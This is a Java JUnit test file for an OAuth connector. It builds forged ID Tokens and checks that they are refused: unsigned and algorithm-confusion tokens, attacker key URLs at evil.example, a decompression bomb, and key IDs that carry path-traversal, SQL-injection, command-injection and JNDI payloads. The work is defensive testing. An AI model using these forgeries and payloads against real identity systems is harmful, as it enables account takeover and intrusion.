package dev.connectorkit.oauth;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.nimbusds.jose.CompressionAlgorithm;
import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import dev.connectorkit.spi.ConnectorError;
import dev.connectorkit.spi.RefreshRequest;
import dev.connectorkit.spi.ResponseMode;
import dev.connectorkit.spi.Secret;
import dev.connectorkit.spi.SignInSession;
import java.net.URI;
import java.security.interfaces.RSAPublicKey;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The ways in which ID Tokens have been forged, a corpus for each rather than one case. */
@Timeout(60)
class ForgedIdTokensTest {

  private static final Provider PROVIDER = new Provider();
  private static final String MANY = "x".repeat(32 * 1024);

  private final Provider provider = new Provider();
  private final OAuthConnector connector = provider.describe().build();
  private final SignInSession session = Provider.begin(connector);
  private final Map<String, Object> claims = provider.claims(session);

  @Test
  void whatIsForgedHereWouldOtherwiseBeGood() {
    assertThat(provider.signIn(connector, session, good()).profile().id()).isEqualTo("u1");
  }

  @Test
  void anEncryptedTokenIsRefusedWhateverIsInside() throws Exception {
    String unsigned = unsigned();
    for (String inside : List.of(unsigned, good(), encrypted(unsigned), encrypted(good()))) {
      refused(encrypted(inside));
      refused(signedText(encrypted(inside)));
      refused(encrypted(signedText(encrypted(inside))));
    }
  }

  @Test
  void aTokenThatUnpacksToMuchMoreIsNotUnpacked() throws Exception {
    String bomb = encrypted(" ".repeat(30_000_000));
    assertThat(bomb.length()).isLessThan(64 * 1024);

    refused(bomb);
  }

  @ParameterizedTest
  @ValueSource(strings = {"PBES2-HS256+A128KW", "PBES2-HS384+A192KW", "PBES2-HS512+A256KW"})
  void aCountOfIterationsIsNotComputed(String algorithm) {
    String header =
        "{\"alg\":\"%s\",\"enc\":\"A128GCM\",\"p2s\":\"AAAAAAAAAAA\",\"p2c\":2147483647}"
            .formatted(algorithm);

    refused(Base64URL.encode(header) + ".AAAA.AAAA.AAAA.AAAA");
    refused(Base64URL.encode(header) + "." + payload() + ".AAAA");
  }

  @Test
  void thePartsOfATokenAreThree() {
    String[] parts = good().split("\\.");
    for (int count : new int[] {1, 2, 4, 5, 6, 100}) {
      refused(
          String.join(
              ".", IntStream.range(0, count).mapToObj(i -> parts[i % 3]).toArray(String[]::new)));
    }
    String encryption = "{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A128GCM\",\"kid\":\"k1\"}";
    refused(Base64URL.encode(encryption) + "." + parts[1] + "." + parts[2]);
    refused(parts[0] + ".AAAA.AAAA." + parts[1] + "." + parts[2]);
  }

  @Test
  void aSignatureOfAnyOtherLengthIsRefused() {
    String[] parts = good().split("\\.");
    byte[] signature = new Base64URL(parts[2]).decode();
    for (int length = 0; length < signature.length; length++) {
      refused(
          parts[0]
              + "."
              + parts[1]
              + "."
              + Base64URL.encode(java.util.Arrays.copyOf(signature, length)));
    }
    refused(
        parts[0]
            + "."
            + parts[1]
            + "."
            + Base64URL.encode(java.util.Arrays.copyOf(signature, signature.length + 1)));
  }

  @Test
  void charactersThatADecoderWouldSkipAreRefused() {
    String good = good();
    int dot = good.indexOf('.');
    for (String extra : List.of(" ", "\n", "\r\n", "=", "!", "\u0000", "\u00e4", "%20")) {
      refused(good + extra);
      refused(extra + good);
      refused(good.substring(0, dot) + extra + good.substring(dot));
      refused(good.substring(0, dot + 5) + extra + good.substring(dot + 5));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"alg\":\"RS256\",\"kid\":\"k1\",\"alg\":\"none\"}",
        "{\"alg\":\"none\",\"kid\":\"k1\",\"alg\":\"RS256\"}",
        "{\"alg\":\"RS256\",\"kid\":\"k1\"} {}",
        "{\"alg\":\"RS256\",\"kid\":\"k1\",}",
        "{'alg':'RS256','kid':'k1'}",
        "{\"alg\":\"RS256\",\"kid\":\"k1\",\"x\":\"\u00ff\"}",
        "{\"alg\":[\"RS256\"],\"kid\":\"k1\"}",
        "{\"alg\":null,\"kid\":\"k1\"}",
        "{\"kid\":\"k1\"}",
        "[]",
        "null",
        ""
      })
  void aHeaderThatIsNoStrictJsonIsRefusedThoughRightlySigned(String header) throws Exception {
    // In Latin-1 the one letter that is not ASCII is no UTF-8.
    Base64URL encoded =
        Base64URL.encode(header.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));

    refused(signedBytes(encoded + "." + payload()));
  }

  /** RFC 8725 §3.11: what the provider signed for another purpose is no ID Token. */
  @ParameterizedTest
  @ValueSource(strings = {"at+jwt", "application/at+jwt", "logout+jwt", "secevent+jwt", "x"})
  void aTokenOfAnotherTypeIsRefusedThoughRightlySigned(String type) throws Exception {
    refused(signedAs("\"" + type + "\""));
  }

  @ParameterizedTest
  @ValueSource(strings = {"JWT", "jwt"})
  void aTokenMaySayThatItIsAJwt(String type) throws Exception {
    signIn(signedAs("\"" + type + "\""));
  }

  private String signedAs(String type) throws Exception {
    String header = "{\"alg\":\"RS256\",\"kid\":\"k1\",\"typ\":" + type + "}";
    return signedBytes(Base64URL.encode(header) + "." + payload());
  }

  static Stream<Arguments> publicKeyAsSecret() throws Exception {
    RSAKey key = PROVIDER.key;
    RSAPublicKey rsa = key.toRSAPublicKey();
    byte[] der = rsa.getEncoded();
    String lines = java.util.Base64.getMimeEncoder(64, "\n".getBytes(US_ASCII)).encodeToString(der);
    String pem = "-----BEGIN PUBLIC KEY-----\n" + lines + "\n-----END PUBLIC KEY-----";
    // The inner key without the 24 bytes that say what it is (RFC 8017, A.1.1).
    byte[] pkcs1 = java.util.Arrays.copyOfRange(der, 24, der.length);
    return Stream.of(
        arguments("PEM", pem.getBytes(US_ASCII)),
        arguments("PEM with a last line break", (pem + "\n").getBytes(US_ASCII)),
        arguments("PEM of Windows", pem.replace("\n", "\r\n").getBytes(US_ASCII)),
        arguments("PEM without its frame", lines.getBytes(US_ASCII)),
        arguments("base64 in one line", Base64.encode(der).toString().getBytes(US_ASCII)),
        arguments("DER", der),
        arguments("DER of PKCS#1", pkcs1),
        arguments("JWK", key.toPublicJWK().toJSONString().getBytes(UTF_8)),
        arguments("JWK set", provider().getBytes(UTF_8)),
        arguments("modulus", key.getModulus().decode()),
        arguments("signed modulus", rsa.getModulus().toByteArray()),
        arguments("modulus in base64url", key.getModulus().toString().getBytes(US_ASCII)),
        arguments("modulus in decimal", rsa.getModulus().toString().getBytes(US_ASCII)),
        arguments("modulus in hexadecimal", rsa.getModulus().toString(16).getBytes(US_ASCII)),
        arguments("key id", "k1".getBytes(US_ASCII)),
        arguments("client id", Provider.CLIENT.getBytes(US_ASCII)),
        arguments("client secret", Provider.SECRET.reveal().getBytes(US_ASCII)),
        // A key is filled up with zeros, so this is the empty one, too.
        arguments("nothing", new byte[1]));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("publicKeyAsSecret")
  void anHmacKeyedWithWhatIsKnownIsRefused(String form, byte[] secret) throws Exception {
    provider.key = PROVIDER.key;
    provider.publish();
    for (String size : List.of("256", "384", "512")) {
      String header = "{\"alg\":\"HS" + size + "\",\"kid\":\"k1\"}";
      String content = Base64URL.encode(header) + "." + payload();
      Mac mac = Mac.getInstance("HmacSHA" + size);
      mac.init(new SecretKeySpec(secret, "HmacSHA" + size));

      refused(content + "." + Base64URL.encode(mac.doFinal(content.getBytes(US_ASCII))));
    }
  }

  @Test
  void anEmptySecretCannotBeMade() {
    assertThatThrownBy(() -> Secret.of("")).isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aProviderThatAdvertisesNoSignatureIsHeldToOne() throws Exception {
    provider.http.on(
        "/.well-known/openid-configuration",
        200,
        """
        {"issuer":"https://op.example","authorization_endpoint":"https://op.example/authorize",
         "token_endpoint":"https://op.example/token","jwks_uri":"https://op.example/jwks",
         "id_token_signing_alg_values_supported":["none","HS256"],
         "userinfo_endpoint":"https://op.example/userinfo"}
        """);
    OAuthConnector discovering = provider.describe().issuer(URI.create(Provider.ISSUER)).build();

    Failing.with(
        ConnectorError.ID_TOKEN_INVALID, () -> provider.signIn(discovering, session, unsigned()));
    assertThat(provider.signIn(discovering, session, good()).profile().id()).isEqualTo("u1");
  }

  @Test
  void theSignatureCountsHoweverTheTokenComes() {
    String forged = good().replaceFirst("\\.[^.]+$", "." + "A".repeat(342));
    OAuthConnector posted = provider.describe().responseMode(ResponseMode.FORM_POST).build();
    OAuthConnector formed = provider.describe().tokenResponse(TokenResponseReader.FORM).build();

    refused(forged);
    Failing.with(ConnectorError.ID_TOKEN_INVALID, () -> provider.signIn(posted, session, forged));
    provider.http.on("/token", 200, "access_token=canary&id_token=" + forged);
    Failing.with(
        ConnectorError.ID_TOKEN_INVALID, () -> formed.complete(Provider.callback(), session));
    provider.http.on(
        "/token", 200, "{\"access_token\":\"canary\",\"id_token\":\"" + forged + "\"}");
    Failing.with(
        ConnectorError.ID_TOKEN_INVALID,
        () ->
            connector.refresh(
                new RefreshRequest(Secret.of("canary"), Optional.of("u1"), Set.of())));
  }

  static Stream<String> keysInTheHeader() throws Exception {
    RSAKey attacker = Provider.newKey("k1");
    String jwk = attacker.toPublicJWK().toJSONString();
    return Stream.of(
        "\"jwk\":" + jwk,
        "\"jwk\":" + jwk + ",\"kid\":\"k1\"",
        "\"jku\":\"https://evil.example/jwks\",\"kid\":\"k1\"",
        "\"jku\":\"file:///dev/null\"",
        "\"x5u\":\"https://evil.example/certificate\"",
        "\"x5c\":[\"MIIB\"],\"x5t\":\"AAAA\",\"x5t#S256\":\"AAAA\"");
  }

  @ParameterizedTest
  @MethodSource("keysInTheHeader")
  void whatTheHeaderSaysOfKeysIsNeitherFetchedNorTrusted(String members) throws Exception {
    RSAKey attacker = Provider.newKey("attacker");
    String content = Base64URL.encode("{\"alg\":\"RS256\"," + members + "}") + "." + payload();

    refused(
        content
            + "."
            + new RSASSASigner(attacker)
                .sign(new JWSHeader(JWSAlgorithm.RS256), content.getBytes(US_ASCII)));
    assertThat(provider.http.requests)
        .noneMatch(request -> !"op.example".equals(request.uri().getHost()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"crit\":[\"exp\"],\"exp\":1",
        "\"crit\":[\"b64\"],\"b64\":false",
        "\"crit\":[\"unknown\"]",
        "\"crit\":\"exp\",\"exp\":1",
        "\"crit\":[]",
        "\"crit\":[1]"
      })
  void whatIsCriticalAndUnknownIsRefusedThoughRightlySigned(String members) throws Exception {
    String header =
        Base64URL.encode("{\"alg\":\"RS256\",\"kid\":\"k1\"," + members + "}").toString();

    refused(signedBytes(header + "." + payload()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "file:///dev/null",
        "https://evil.example/key",
        "' or 1=1 --",
        "k1' union select 'k",
        "k1;id",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
        "k1\u0000",
        "k1 ",
        "K1",
        "\u202ek1",
        "",
        " "
      })
  void aKeyIdIsLookedUpAmongTheProvidersKeysOnly(String id) {
    RSAKey published = provider.key;
    provider.key = new RSAKey.Builder(Provider.newKey("other")).keyID(id).build();

    refused(provider.sign(claims));
    assertThat(provider.http.requests)
        .allMatch(request -> "op.example".equals(request.uri().getHost()));
    provider.key = published;
    assertThat(provider.signIn(connector, session, good()).profile().id()).isEqualTo("u1");
  }

  @Test
  void aKeyIdOfAnyLengthIsRefused() {
    RSAKey published = provider.key;
    provider.key = new RSAKey.Builder(published).keyID(MANY).build();
    refused(provider.sign(claims));

    provider.key = new RSAKey.Builder(published).keyID(MANY + MANY).build();
    refused(provider.sign(claims));
  }

  @Test
  void aThousandUnknownKeyIdsCauseTwoFetchesAndDriveNoGoodKeyOut() {
    RSAKey published = provider.key;
    for (int i = 0; i < 1_000; i++) {
      provider.key = new RSAKey.Builder(published).keyID("unknown-" + i).build();
      refused(provider.sign(claims));
    }
    provider.key = published;

    assertThat(provider.signIn(connector, session, good()).profile().id()).isEqualTo("u1");
    assertThat(provider.http.at("/jwks")).hasSizeLessThanOrEqualTo(3);
  }

  @Test
  void aTokenThatIsTooLongIsNotEvenDecoded() {
    claims.put("filler", MANY + MANY);
    refused(provider.sign(claims));
    refused("a".repeat(900_000));

    assertThat(provider.http.at("/jwks")).isEmpty();
  }

  private String good() {
    return provider.sign(claims);
  }

  private String unsigned() {
    return Base64URL.encode("{\"alg\":\"none\"}") + "." + payload() + ".";
  }

  private String payload() {
    return provider.sign(claims).split("\\.")[1];
  }

  /** For a key that everybody knows: encryption proves nothing about who encrypted. */
  private String encrypted(String content) throws Exception {
    var token =
        new JWEObject(
            new JWEHeader.Builder(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A128GCM)
                .contentType("JWT")
                .keyID("k1")
                .compressionAlgorithm(CompressionAlgorithm.DEF)
                .build(),
            new Payload(content));
    token.encrypt(new RSAEncrypter(provider.key.toRSAPublicKey()));
    return token.serialize();
  }

  /** A signature of the right key, around what is no claims set. */
  private String signedText(String content) throws Exception {
    var token =
        new JWSObject(
            new JWSHeader.Builder(JWSAlgorithm.RS256).keyID("k1").contentType("JWT").build(),
            new Payload(content));
    token.sign(new RSASSASigner(provider.key));
    return token.serialize();
  }

  private String signedBytes(String content) throws Exception {
    return content
        + "."
        + new RSASSASigner(provider.key)
            .sign(new JWSHeader(JWSAlgorithm.RS256), content.getBytes(US_ASCII));
  }

  private static String provider() {
    return "{\"keys\":[" + PROVIDER.key.toPublicJWK().toJSONString() + "]}";
  }

  private void refused(String token) {
    Failing.with(ConnectorError.ID_TOKEN_INVALID, () -> signIn(token));
  }

  private void signIn(String token) {
    var body =
        new com.fasterxml.jackson.databind.node.ObjectNode(
            com.fasterxml.jackson.databind.node.JsonNodeFactory.instance);
    body.put("access_token", "canary-access");
    body.put("id_token", token);
    provider.http.on("/token", 200, body.toString());
    connector.complete(Provider.callback(), session);
  }
}
